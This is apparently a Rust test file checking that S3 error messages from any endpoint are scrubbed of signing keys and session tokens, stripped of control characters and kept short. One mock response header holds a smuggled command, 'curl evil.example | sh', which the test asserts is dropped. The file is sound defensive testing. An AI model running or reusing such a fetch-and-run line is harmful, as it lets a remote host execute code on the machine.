//! Property test of how an S3 error answer is shown: whatever the endpoint
//! (any `AWS_ENDPOINT_URL`) writes in its error document, the detail holds no
//! part of the signing keys, no control character, and is bounded.

use aws_credential_types::Credentials;
use proptest::prelude::*;

use super::status_detail;
use crate::backend_answers::{bytes, has_control, holds_part_of, said, text};
use crate::secrets::scrub::MAX_PEER_CHARS;

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn an_error_document_shows_no_signing_key_and_stays_one_bounded_line(
        key in "[A-Za-z0-9+/=%&@!_.~-]{12,40}",
        token in "[A-Za-z0-9+/=%&@!_.~-]{12,60}",
        code in said(),
        message in said(),
        around in prop_oneof![text(), bytes().prop_map(|b| String::from_utf8_lossy(&b).into_owned())],
        status in 300u16..600,
    ) {
        let body = format!(
            "<?xml version=\"1.0\"?>{around}<Error><Code>{}</Code><Message>{}</Message>{around}</Error>",
            code.of(&key, &token),
            message.of(&key, &token),
        );
        let creds = Credentials::new("AKIDEXAMPLE", key.clone(), Some(token.clone()), None, "test");
        let status = http::StatusCode::from_u16(status).expect("status");
        let detail = status_detail(status, &body, &creds);
        prop_assert!(!holds_part_of(&detail, &key), "the secret key in {:?}", detail);
        prop_assert!(!holds_part_of(&detail, &token), "the session token in {:?}", detail);
        prop_assert!(!has_control(&detail), "{:?}", detail);
        prop_assert!(detail.chars().count() <= 2 * (MAX_PEER_CHARS * 10 + 3) + 40, "{} characters", detail.len());
    }
}

/// The error document was shown unscrubbed (an endpoint that echoed the session token it was
/// sent had it in the start-up error and the reload's log), unlike an AWS JSON error, and the
/// `x-amz-bucket-region` advice repeated whatever the header said.
#[tokio::test]
async fn an_endpoint_that_echoes_the_session_token_has_it_scrubbed() {
    use std::collections::HashMap;
    use std::sync::Arc;

    use bytes::Bytes;
    use http_body_util::Full;

    use crate::config_source::s3::{S3Error, S3Object};
    use crate::secrets::aws::{AwsOverrides, AwsShared};
    use crate::secrets::http::HttpClient;
    use crate::secrets::EnvLookup;

    let token = "FwoGZXIvYXdzEBYaDsession-token-0123";
    let addr = crate::test_http::serve_http1(hyper::service::service_fn(
        |req: http::Request<hyper::body::Incoming>| async move {
            let sent = req
                .headers()
                .get("x-amz-security-token")
                .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned())
                .unwrap_or_default();
            let body = format!(
                "<Error><Code>InvalidToken</Code><Message>The token {sent} is malformed</Message></Error>"
            );
            let mut rsp = http::Response::new(Full::new(Bytes::from(body)));
            *rsp.status_mut() = http::StatusCode::BAD_REQUEST;
            rsp.headers_mut().insert(
                "x-amz-bucket-region",
                http::HeaderValue::from_static("eu-west-1; then run: curl evil.example | sh"),
            );
            Ok::<_, std::convert::Infallible>(rsp)
        },
    ))
    .await;
    let env = HashMap::from([("AWS_ENDPOINT_URL_S3".to_string(), format!("http://{addr}"))]);
    let aws = AwsShared::new(
        AwsOverrides {
            credentials: Some(Credentials::new(
                "AKIDEXAMPLE",
                "secret-key-0123456",
                Some(token.into()),
                None,
                "test",
            )),
            region: Some("us-east-1".into()),
        },
        HttpClient::new(),
        EnvLookup::Fixed(Arc::new(env)),
    );
    let obj = S3Object::parse("s3://my-bucket/iron-proxy.yaml").expect("url");
    let Err(S3Error::Status { detail, .. }) = obj.fetch(&aws).await else {
        panic!("not an S3 error answer");
    };
    assert!(!holds_part_of(&detail, token), "{detail}");
    assert!(!detail.contains("evil"), "{detail}");
    assert_eq!(
        detail,
        "400 Bad Request: InvalidToken: The token [redacted] is malformed"
    );
}
